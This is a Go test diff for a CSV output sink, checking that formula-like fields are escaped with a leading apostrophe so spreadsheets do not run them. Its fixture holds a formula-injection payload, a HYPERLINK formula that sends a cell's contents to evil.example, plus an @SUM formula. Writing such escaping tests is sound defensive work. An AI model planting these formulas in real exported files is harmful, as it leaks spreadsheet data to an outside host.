@@ -219,3 +219,39 @@ func TestTerminalTableLeavesOutNotes(t *testing.T) {
 		}
 	}
 }
+
+// Text from outside that a spreadsheet would run as a formula is written
+// with a leading apostrophe; numbers keep their sign; metadata is a JSON
+// object, whatever its values hold; read back by a CSV reader, each field
+// is one field.
+func TestFieldsAreNeverFormulas(t *testing.T) {
+	var stdout bytes.Buffer
+	o, err := csvsink.New(&stdout, []string{"cell_id", "engine_version", "notes", "metadata", "ttft_ms"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := o.Start(pipeline.LiveEnv(&pipeline.RunInfo{ID: resultstest.RunID, Dir: t.TempDir()})); err != nil {
+		t.Fatal(err)
+	}
+	c := resultstest.Points()[0].Cell
+	c.EngineVersion = `=HYPERLINK("http://evil.example/?"&A1,"update")`
+	c.Notes = "@SUM(1+1)"
+	c.Metadata = map[string]string{"note": "a=b;c=d", "-x": "+1"}
+	c.TTFTMs = results.Some(-1.5)
+	if err := o.Cell(c, nil); err != nil {
+		t.Fatal(err)
+	}
+	if err := o.Stop(nil); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := encsv.NewReader(&stdout).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("%d records, %v", len(recs), err)
+	}
+	want := []string{c.CellID, `'=HYPERLINK("http://evil.example/?"&A1,"update")`, "'@SUM(1+1)", `{"-x":"+1","note":"a=b;c=d"}`, "-1.5"}
+	for i, w := range want {
+		if recs[1][i] != w {
+			t.Errorf("%s = %q, want %q", recs[0][i], recs[1][i], w)
+		}
+	}
+}
